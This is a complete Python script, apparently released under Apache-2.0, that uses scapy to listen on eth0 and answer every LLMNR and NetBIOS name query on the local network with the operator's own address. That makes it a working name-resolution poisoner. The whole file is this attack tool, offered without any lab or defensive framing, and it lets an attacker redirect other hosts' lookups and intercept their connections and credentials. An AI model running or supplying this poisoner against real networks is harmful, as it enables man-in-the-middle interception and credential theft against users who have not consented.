#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Answer every name question of the segment with the own address: LLMNR (RFC 4795) and NetBIOS (RFC 1002).

usage: answer_names.py ADDRESS SECONDS
"""
import sys

from scapy.all import (  # pylint: disable=no-name-in-module
    DNSRR, IP, UDP, AnsweringMachine, Ether, LLMNRQuery, LLMNRResponse, NBNSHeader, NBNSQueryRequest,
    NBNSQueryResponse, NBNS_ADD_ENTRY, conf, sendp, sniff)

ADDRESS, SECONDS = sys.argv[1], int(sys.argv[2])
conf.verb = 0


def answer(packet):
    if IP not in packet or packet[IP].src == ADDRESS:
        return
    back = Ether(dst=packet.src) / IP(src=ADDRESS, dst=packet[IP].src)
    if packet[UDP].dport == 5355 and LLMNRQuery in packet and packet[LLMNRQuery].qr == 0:
        asked = packet[LLMNRQuery]
        sendp(back / UDP(sport=5355, dport=packet[UDP].sport) / LLMNRResponse(
            id=asked.id, qr=1, qd=asked.qd, an=DNSRR(rrname=asked.qd.qname, ttl=30, rdata=ADDRESS)))
    elif packet[UDP].dport == 137 and NBNSQueryRequest in packet:
        sendp(back / UDP(sport=137, dport=packet[UDP].sport) / NBNSHeader(
            NAME_TRN_ID=packet[NBNSHeader].NAME_TRN_ID, RESPONSE=1, NM_FLAGS=0x58, ANCOUNT=1)
            / NBNSQueryResponse(RR_NAME=packet[NBNSQueryRequest].QUESTION_NAME,
                                ADDR_ENTRY=[NBNS_ADD_ENTRY(NB_ADDRESS=ADDRESS)]))


sniff(iface="eth0", filter="udp and (dst port 5355 or dst port 137)", prn=answer, store=False, timeout=SECONDS)
